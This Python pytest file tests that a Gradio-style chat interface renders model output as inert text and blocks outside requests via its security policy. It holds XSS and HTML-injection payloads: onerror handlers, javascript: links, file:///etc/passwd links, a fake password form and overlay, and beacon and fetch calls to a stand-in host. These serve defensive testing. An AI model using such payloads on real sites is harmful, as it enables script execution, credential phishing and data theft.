"""Text stays text on the page, and the page talks to its own server alone; seen in Chromium."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace

import httpx
import pytest
from playwright.sync_api import Page, Route, expect
from support.browser_app import Tab, chromium, running_page
from support.scripted_engine import READY, ScriptedEngine

from qwen_vl.errors import BadRequest
from qwen_vl.ui.markup import as_typed, from_page, plain, to_page

ELSEWHERE = "http://elsewhere.example"
MEDIA = f"<video src={ELSEWHERE}/v autoplay></video>"
BROKEN = "<img src=x onerror=window.ran=1>"
FORM = f"<form action={ELSEWHERE}/f><input type=password name=p><button>Log in</button></form>"
OVERLAY = "<div style='position:fixed;inset:0;z-index:9999'>Your session has expired</div>"
# Places that one Markdown parser takes for code and another does not, and ways around escaping.
PAYLOADS = [
    f"{BROKEN}{MEDIA}",
    f"``` a`b\n{MEDIA}{FORM}{OVERLAY}\n",
    f"```x`\n\n{MEDIA}{BROKEN}\n\n```",
    f"`a\n# {MEDIA}`",
    f"`a\n> {MEDIA}{BROKEN}`",
    f"|a `b|c` {MEDIA}|\n|-|-|\n|x|y|",
    f"- ```\n  a\n\n{MEDIA}{BROKEN}\n",
    f"> ```\n{MEDIA}{BROKEN}",
    f"$$\n```\n$$\n{MEDIA}{BROKEN}",
    f"<div>`</div>\n{MEDIA}`",
    f"~~~\na\n```\n{MEDIA}\n~~~\n<style>*{{display:none}}</style>",
    "<svg><script>window.ran=1</script></svg><iframe srcdoc='<script>parent.ran=1</script>'>",
    f"<base href={ELSEWHERE}/><meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"![a]({ELSEWHERE}/i) ![b](javascript:window.ran=1) [c](file:///etc/passwd)",
    "[d](javascript:window.ran=1) [e](&#106;avascript:window.ran=1) [f]\n\n[f]: javascript:ran=1",
]
TYPED = ["2*3*4*5 __init__.py", "# no heading", "1) a\n2) b", "***", "&copy; &gt;", "- x", "> q"]


@pytest.mark.parametrize("text", [*PAYLOADS, *TYPED, "a < b <= c <- d", "\ufeff<b>", "<", "<<b>"])
def test_no_tag_reaches_the_page_and_the_words_come_back(text: str) -> None:
    for shown in (to_page(text), as_typed(text)):
        assert not re.search("<[a-zA-Z/!?]", shown)
        assert from_page(shown) == text.replace("\ufeff", "")


def test_formulas_and_comparisons_stay_as_they_are() -> None:
    text = "$$a < b$$ if x<=3: `y <- z` and [here](https://example.com/a)"
    assert to_page(text) == text


@pytest.mark.parametrize("piece", ["`", "`a", "<", "](", "] (", "*", "\n", "&", "\n ", "\\", "$"])
def test_a_million_letters_take_no_long_time(piece: str) -> None:
    runs = "".join("`" * length + "a" for length in range(1, 1200)) if piece == "`a" else ""
    text = runs or piece * (1_000_000 // len(piece))
    started = time.monotonic()
    assert from_page(to_page(text)) == from_page(as_typed(text)) == text
    plain(text)
    assert time.monotonic() - started < 5


@dataclass
class Seen:
    """A tab, what the model says next, and every request to another server."""

    tab: Tab
    engine: ScriptedEngine
    says: list[str]
    foreign: list[str] = field(default_factory=list)

    @property
    def page(self) -> Page:
        return self.tab.page

    def shown(self, question: str, answer: str) -> tuple[str, str]:
        """Asks in a new chat; gives the question and the answer as they are seen."""
        self.says[:] = [answer]
        self.page.click("#new-chat")
        self.page.wait_for_function("!document.querySelector('#chat .message')")
        self.tab.ask(question)
        self.tab.wait_text("#chat", "tokens/s")
        self.tab.wait_idle()
        user, bot = (self.page.locator(f"#chat .{who}.message").first for who in ("user", "bot"))
        return user.inner_text().strip(), bot.inner_text().strip()

    def harm(self) -> list[str]:
        """What must not be there: active elements, handlers, odd addresses, scripts that ran."""
        return self.page.evaluate("""() => {
            const active = "script,iframe,video,audio,form,style,link,meta,base,object,embed,input";
            const bad = window.ran ? ["a script ran"] : [];
            for (const found of document.querySelectorAll("#chat .message *")) {
                if (found.matches(active)) bad.push(found.tagName);
                for (const { name, value } of found.attributes)
                    if (/^on/i.test(name) || /^\\s*(javascript|vbscript|file):/i.test(value))
                        bad.push(`${found.tagName} ${name}=${value}`);
            }
            return bad;
        }""")


EVIL_ID = f"Evil/{BROKEN}**b** [l](javascript:window.ran=1)"


@pytest.fixture(scope="module")
def seen() -> Iterator[Seen]:
    says = [""]
    engine = ScriptedEngine(lambda _: says[0], status=replace(READY, model_id=EVIL_ID))
    with running_page(engine) as url, chromium() as browser:
        context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
        found = Seen(Tab(context.new_page(), url), engine, says)

        def note(route: Route) -> None:  # what the browser itself refuses never comes here
            found.foreign.append(route.request.url)
            route.abort()

        context.route(lambda asked: not asked.startswith((url, "data:", "blob:")), note)
        found.tab.open()
        yield found


@pytest.mark.parametrize("text", PAYLOADS)
def test_html_in_an_answer_is_shown_and_does_nothing(seen: Seen, text: str) -> None:
    seen.shown("q", text)
    assert seen.harm() == []
    assert seen.foreign == []


def test_html_in_a_question_is_shown_and_does_nothing(seen: Seen) -> None:
    for text in PAYLOADS[:3]:
        seen.shown(text, "ok")
        assert seen.harm() == []
    assert seen.foreign == []


def test_a_question_is_shown_as_it_was_typed(seen: Seen) -> None:
    for text in TYPED:
        assert seen.shown(text, "ok")[0] == text
        assert seen.engine.requests[-1][0][-1].text == text


def test_code_and_formulas_are_rendered_and_copies_are_what_was_written(seen: Seen) -> None:
    answer = "$$a<b$$\n\n```html\n<p>x</p>\n```\n\n**bold** <i>"
    _, shown = seen.shown("q", answer)
    assert "<p>x</p>" in shown
    assert "bold <i>" in shown
    expect(seen.page.locator("#chat .bot .katex")).to_have_count(1)
    seen.page.get_by_label("Copy the answer").click()
    seen.tab.wait_clipboard(answer)


def test_a_models_name_is_a_name_everywhere(seen: Seen) -> None:
    seen.shown("q", "ok")
    expect(seen.page.locator("#header")).to_contain_text(EVIL_ID)
    expect(seen.page.locator("#chat")).to_contain_text(EVIL_ID)
    expect(seen.page.locator("#header img, #chat .bot img")).to_have_count(0)


def test_an_error_of_another_server_is_shown_as_text(seen: Seen) -> None:
    words = "<img src=x onerror=window.ran=1> <b>no</b> **such** <form>"
    seen.engine.refusal = BadRequest(words)
    seen.tab.ask("q")
    seen.tab.wait_text("[data-testid=toast-body]", words)
    seen.engine.refusal = None
    expect(seen.page.locator("[data-testid=toast-text] :is(img, b, form)")).to_have_count(0)
    assert not seen.page.evaluate("window.ran")
    seen.page.click("[data-testid=toast-close]")


@pytest.mark.parametrize(
    "load",
    [
        "fetch(there).catch(() => 0)",
        "new Image().src = there",
        "document.body.append(Object.assign(document.createElement('video'), {src: there}))",
        "document.body.append(Object.assign(document.createElement('iframe'), {src: there}))",
        "document.body.append(Object.assign(document.createElement('object'), {data: there}))",
        "document.body.append(Object.assign(document.createElement('script'), {src: there}))",
        "navigator.sendBeacon(there)",
        "new FontFace('x', `url(${there})`).load().catch(() => 0)",
        "{ const f = document.createElement('form'); f.action = there; f.method = 'post';"
        " document.body.append(f); f.submit(); }",
    ],
)
def test_the_browser_itself_loads_nothing_from_elsewhere(seen: Seen, load: str) -> None:
    blocked = seen.page.evaluate(f"""() => new Promise(done => {{
        const there = "{ELSEWHERE}/x";
        document.addEventListener("securitypolicyviolation", e => done(e.violatedDirective),
            {{ once: true }});
        setTimeout(() => done(""), 5000);
        {load};
    }})""")
    assert blocked


# --- without a browser ---


@pytest.fixture(scope="module")
def address() -> Iterator[str]:
    with running_page(ScriptedEngine()) as url:
        yield url.rstrip("/")


def uploaded(address: str, name: str, data: bytes) -> str:
    reply = httpx.post(f"{address}/gradio_api/upload", files={"files": (name, data)})
    return reply.json()[0]


def test_every_answer_names_its_policy(address: str) -> None:
    for path in ("/", "/config", "/theme.css", "/gradio_api/info", "/nothing-here"):
        headers = httpx.get(address + path).headers
        policy = headers["content-security-policy"]
        for rule in ("default-src 'self'", "object-src 'none'", "form-action 'self'"):
            assert rule in policy
        assert "https://*.hf.space" in policy.partition("frame-ancestors")[2]  # Spaces embed it
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "same-origin"


@pytest.mark.parametrize(
    ("name", "is_shown"), [("a.png", True), ("a.svg", False), ("a.html", False)]
)
def test_what_was_uploaded_cannot_act(address: str, name: str, is_shown: bool) -> None:
    path = uploaded(address, name, b"<script>alert(1)</script>")
    headers = httpx.get(f"{address}/gradio_api/file={path}").headers
    assert "sandbox" in headers["content-security-policy"]
    assert headers.get("content-disposition", "").startswith("attachment") != is_shown


@pytest.mark.parametrize(
    "path",
    [
        "/gradio_api/deep_link?session_hash=a",
        "/gradio_api/proxy=https://a.hf.space/x",
        "/gradio_api/file/http://127.0.0.1:1/",
        "/gradio_api/vibe-code",
        "/gradio_api/runs",
        "/gradio_api/run-history/buckets",
        "/gradio_api/stream/a",
        "/monitoring",
        "/monitoring/summary",
    ],
)
def test_routes_that_the_page_does_not_use_are_off(address: str, path: str) -> None:
    assert httpx.get(address + path).status_code == 404


@pytest.mark.parametrize(
    "write", [lambda text: text, lambda text: text.replace("http:", "\\u0068ttp:")]
)
def test_nothing_is_fetched_from_the_web(address: str, write: Callable[[str], str]) -> None:
    there = f"{ELSEWHERE}/ok.png"
    assert httpx.get(f"{address}/gradio_api/file={there}").status_code == 404
    file = {"path": there, "meta": {"_type": "gradio.FileData"}}
    history = [{"role": "user", "content": [{"type": "file", "file": file}]}]
    for box, turns in (({"text": "x", "files": [file]}, []), ({"text": "x"}, history)):
        call = {"data": [box, turns, ""], "fn_index": 0, "session_hash": "a"}
        assert joined(address, write(json.dumps(call))).status_code == 400


def test_a_component_as_a_message_is_never_built(address: str) -> None:
    part = {"type": "component", "component": "image", "value": None, "constructor_args": {}}
    call = {"data": [{"text": "x"}, [{"role": "user", "content": [part]}], ""], "fn_index": 0}
    assert joined(address, json.dumps({**call, "session_hash": "a"})).status_code == 400


def joined(address: str, body: str) -> httpx.Response:
    headers = {"Content-Type": "application/json"}
    return httpx.post(f"{address}/gradio_api/queue/join", content=body, headers=headers)
